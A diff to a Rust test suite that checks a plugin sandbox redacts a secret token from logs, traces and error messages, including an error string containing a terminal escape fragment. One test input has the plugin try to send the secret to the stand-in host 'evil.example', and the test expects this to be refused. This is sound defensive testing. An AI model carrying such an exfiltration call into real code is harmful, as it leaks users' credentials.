@@ -194,6 +194,9 @@ async fn a_secret_is_seen_by_nobody_but_the_plugin_that_may() {
     assert!(format!("{called:?}").matches("[secret token]").count() >= 4, "log, measurement, trace, answer: {called:?}");
     let error = attempt(&plugin, &json!({ "keep": "token" }), &granted).await.expect_err("states are written down");
     assert!(matches!(&error.kind, CallErrorKind::Malformed { message } if message.contains("\"token\"")), "{error:?}");
+    let error = attempt(&plugin, &json!({ "measureNothing": "token" }), &granted).await.expect_err("it is no number");
+    assert!(error.to_string().contains("measurement [secret token] [2J is NaN"), "{error:?}");
+    assert!(!format!("{error:?}").contains(SECRET), "{error:?}");
     let (reason, _) = refused(&plugin, "http", &json!({ "send": { "secret": "token", "host": "evil.example" } }), &granted).await;
     assert!(!reason.contains(SECRET), "{reason}");
 }
